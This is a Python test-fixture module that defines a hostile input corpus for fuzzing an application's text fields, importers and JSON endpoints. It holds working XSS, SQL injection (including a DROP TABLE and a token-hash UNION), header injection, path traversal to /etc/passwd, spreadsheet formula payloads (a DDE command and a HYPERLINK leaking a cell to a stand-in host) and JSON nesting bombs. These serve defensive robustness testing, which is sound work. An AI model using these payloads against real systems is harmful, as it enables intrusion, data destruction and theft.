"""The hostile input corpus: what an attacker, a broken client or a bad CSV sends.

Every text field of the API, the importers and the forms is tried with these. The rule
they test: each value gets a clear 4xx or is stored safely (shown escaped), and none
crashes a worker.
"""

from __future__ import annotations

from typing import Final

MEGABYTE: Final = 1_000_000

HTML_JS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "</script><script>alert(document.cookie)</script>",
    '<a href="javascript:alert(1)">klik</a>',
    "javascript:alert(1)",
    "<iframe src=//example.invalid></iframe>",
    "<style>body{display:none}</style>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "' onmouseover='alert(1)",
)

SQL: Final = (
    "' OR '1'='1",
    "'; DROP TABLE business;--",
    '" OR ""="',
    "1; SELECT pg_sleep(10)",
    "' UNION SELECT token_hash FROM admin_token--",
    "%",
    "_",
    "%%%_%_\\",
    "\\'; --",
    "kopi' AND 1=(SELECT count(*) FROM sqlite_master)--",
)

CONTROL: Final = (
    "\x00",
    "kopi\x00enak",
    "\x01\x02\x03\x1b[31m\x7f",
    "line\r\nSet-Cookie: dekat=evil",
    "tab\tand\vvertical\fform",
    "\u2028\u2029",
    "\ufeffBOM",
    "\u200b\u200c\u200d",
)

UNICODE: Final = (
    "☕ Kopi 🍜 Mie 👨\u200d👩\u200d👧\u200d👦",
    "مقهى القهوة",
    "בית קפה",
    "\u202egnp.exe",
    "abc\u202edcba\u202c",
    "Z\u0334\u0321\u031ba\u0338l\u0336g\u0337o\u0335",
    "ｆｕｌｌｗｉｄｔｈ",
    "𝔎𝔬𝔭𝔦",
    "ﷺ" * 50,
    "\ud83d",  # a lone surrogate: valid JSON escape, not valid Unicode
)

SIZES: Final = (
    "",
    " ",
    "A" * 10_000,
    "A" * MEGABYTE,
    "é" * (MEGABYTE // 2),
)

NUMBERS: Final = (
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "inf",
    "-0",
    "-0.0",
    "1e309",
    "-1e309",
    "1e-400",
    "91",
    "-91",
    "181",
    "-181",
    "1e20",
    "0x10",
    " 5 ",
    "5,5",
    "١٢",
    "²",
    "⑤",
    "9" * 400,
    "-9223372036854775809",
    "18446744073709551616",
)

JSON_NUMBERS: Final = (
    float("nan"),
    float("inf"),
    float("-inf"),
    -0.0,
    91.0,
    -181.0,
    1e308,
    -1e308,
    2**63,
    -(2**63) - 1,
    10**400,
)

CURSORS: Final = (
    "",
    "not-a-cursor",
    "eyJpZCI6IDF9",  # base64 of {"id": 1}
    "eyJpZCI6IC0xLCAic2NvcmUiOiAiTmFOIn0=",  # {"id": -1, "score": "NaN"}
    "eyJ9",
    "====",
    "A" * 10_000,
    "%00%00",
    "../../../../etc/passwd",
    "' OR 1=1--",
    "eyJpZCI6ICIxOyBEUk9QIFRBQkxFIGJ1c2luZXNzIn0",  # {"id": "1; DROP TABLE business"}
)

FORMULAS: Final = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

TEXT: Final = HTML_JS + SQL + CONTROL + UNICODE + FORMULAS
"""Short hostile strings: cheap enough to send to every text field."""

ALL_STRINGS: Final = TEXT + SIZES + NUMBERS + CURSORS


def nesting_bomb(depth: int = 100_000, *, kind: str = "list") -> bytes:
    """``[[[[…]]]]`` or ``{"a":{"a":…}}`` nested ``depth`` deep, as raw JSON bytes."""
    if kind == "list":
        return b"[" * depth + b"]" * depth
    return b'{"a":' * depth + b"1" + b"}" * depth


MALFORMED_JSON: Final = (
    b"",
    b"{",
    b'{"name": }',
    b"\xff\xfe\x00\x00",
    b'{"name": "\xc3\x28"}',  # invalid UTF-8 inside a string
    b"[1, 2, 3]",
    b"null",
    b"12345678901234567890123456789012345678901234567890",
    b'{"name": "kopi", "name": "teh"}',
    b'{"__proto__": {"admin": true}}',
    nesting_bomb(),
    nesting_bomb(kind="object"),
)

INVALID_UTF8_CSV: Final = (
    b"name,lat,lon\nKopi \xff\xfe Enak,-6.3,106.65\n",
    b"name,lat,lon\nKopi \xc3\x28,-6.3,106.65\n",
    b"\xef\xbb\xbfname,lat,lon\nKopi BOM,-6.3,106.65\n",
    b"name,lat,lon\nKopi\x00Nul,-6.3,106.65\n",
    b'name,lat,lon\n"unterminated,-6.3,106.65\n',
    b"name,lat,lon\n" + b"A" * 2_000_000 + b",-6.3,106.65\n",
)
